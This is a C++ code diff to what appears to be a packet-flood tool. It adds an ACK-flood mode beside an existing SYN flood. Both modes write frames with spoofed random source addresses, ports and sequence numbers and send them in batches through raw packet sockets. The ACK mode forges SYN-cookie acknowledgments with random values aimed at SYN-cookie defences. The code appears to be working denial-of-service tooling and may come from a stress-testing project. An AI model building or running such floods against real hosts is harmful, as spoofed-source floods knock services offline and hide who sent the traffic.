@@ -12,6 +12,7 @@
 #include <sys/stat.h>
 #include <unistd.h>
 
+#include <algorithm>
 #include <array>
 #include <filesystem>
 #include <thread>
@@ -48,27 +49,47 @@ Ipv4Address random_host(const Ipv4Subnet& prefix, Random& random) {
   return {base | (1 + static_cast<uint32_t>(random.next() % (hosts - 1)))};
 }
 
-// Writes SYNs from random sources, ports, sequence numbers and timestamps.
-class SynSource {
+// Frames of either kind fit in a slot this big.
+constexpr size_t kMaxFrameSize = std::max(kSynFrameSize, kAckFrameSize);
+using FrameSlot = std::array<uint8_t, kMaxFrameSize>;
+
+size_t frame_size(FloodKind kind) {
+  return kind == FloodKind::kSyn ? kSynFrameSize : kAckFrameSize;
+}
+
+// Writes SYNs (or bare ACKs) from random sources, ports, sequence and acknowledgment numbers
+// and timestamps.
+class SpoofedSource {
  public:
-  SynSource(const SynFloodConfig& config, const MacAddress& source_mac)
-      : sources_(config.sources), random_(config.seed) {
+  SpoofedSource(const SynFloodConfig& config, const MacAddress& source_mac)
+      : kind_(config.kind), sources_(config.sources), random_(config.seed) {
     segment_.source_mac = source_mac;
     segment_.destination_mac = config.destination_mac;
     segment_.destination = config.destination;
     segment_.destination_port = config.destination_port;
   }
-  void write(std::span<uint8_t, kSynFrameSize> out) {
+  void write(FrameSlot& out) {
     uint64_t r = random_.next();
+    uint64_t t = random_.next();
     segment_.source = random_host(sources_, random_);
     segment_.source_port = static_cast<uint16_t>(1024 + (r & 0xffff) % (65536 - 1024));
     segment_.seq = static_cast<uint32_t>(r >> 32);
-    segment_.tsval = static_cast<uint32_t>(random_.next());
+    segment_.tsval = static_cast<uint32_t>(t);
     segment_.ip_id = static_cast<uint16_t>(r >> 16);
-    write_syn_frame(out, segment_);
+    if (kind_ == FloodKind::kSyn) {
+      write_syn_frame(std::span(out).first<kSynFrameSize>(), segment_);
+      return;
+    }
+    // A forged cookie ACK: its acknowledgment number is the cookie, its TSecr the options the
+    // cookie's SYN-ACK would have carried in TSval.
+    uint64_t a = random_.next();
+    segment_.ack = static_cast<uint32_t>(a);
+    segment_.tsecr = static_cast<uint32_t>(a >> 32);
+    write_ack_frame(std::span(out).first<kAckFrameSize>(), segment_);
   }
 
  private:
+  FloodKind kind_;
   Ipv4Subnet sources_;
   Random random_;
   ClientSegment segment_;
@@ -77,10 +98,11 @@ class SynSource {
 // The frames of one sendmmsg call, with their message headers pointing at them once.
 class Batch {
  public:
-  Batch(uint32_t size, const sockaddr_ll& link) : link_(link), frames_(size), iov_(size) {
+  Batch(uint32_t size, size_t frame_size, const sockaddr_ll& link)
+      : link_(link), frames_(size), iov_(size) {
     messages_.resize(size);
     for (uint32_t i = 0; i < size; ++i) {
-      iov_[i] = {frames_[i].data(), frames_[i].size()};
+      iov_[i] = {frames_[i].data(), frame_size};
       msghdr& m = messages_[i].msg_hdr;
       m.msg_name = &link_;
       m.msg_namelen = sizeof link_;
@@ -88,12 +110,12 @@ class Batch {
       m.msg_iovlen = 1;
     }
   }
-  std::span<uint8_t, kSynFrameSize> frame(size_t i) { return frames_[i]; }
+  FrameSlot& frame(size_t i) { return frames_[i]; }
   mmsghdr* messages() { return messages_.data(); }
 
  private:
   sockaddr_ll link_;
-  std::vector<std::array<uint8_t, kSynFrameSize>> frames_;
+  std::vector<FrameSlot> frames_;
   std::vector<iovec> iov_;
   std::vector<mmsghdr> messages_;
 };
@@ -177,8 +199,8 @@ Result<SynFloodReport> run_syn_flood(const SynFloodConfig& config, const std::at
   link.sll_family = AF_PACKET;
   link.sll_protocol = htons(ETH_P_IP);
   link.sll_ifindex = static_cast<int>(if_nametoindex(config.interface.c_str()));
-  Batch batch(config.batch, link);
-  SynSource syns(config, *source_mac);
+  Batch batch(config.batch, frame_size(config.kind), link);
+  SpoofedSource frames(config, *source_mac);
 
   SynFloodReport report;
   uint32_t built = 0;  // frames in the batch
@@ -198,7 +220,7 @@ Result<SynFloodReport> run_syn_flood(const SynFloodConfig& config, const std::at
       }
       built = static_cast<uint32_t>(
           std::min<uint64_t>(config.batch, config.max_packets - report.sent - report.refused));
-      for (uint32_t i = 0; i < built; ++i) syns.write(batch.frame(i));
+      for (uint32_t i = 0; i < built; ++i) frames.write(batch.frame(i));
       next = 0;
     }
     const uint32_t offered = built - next;
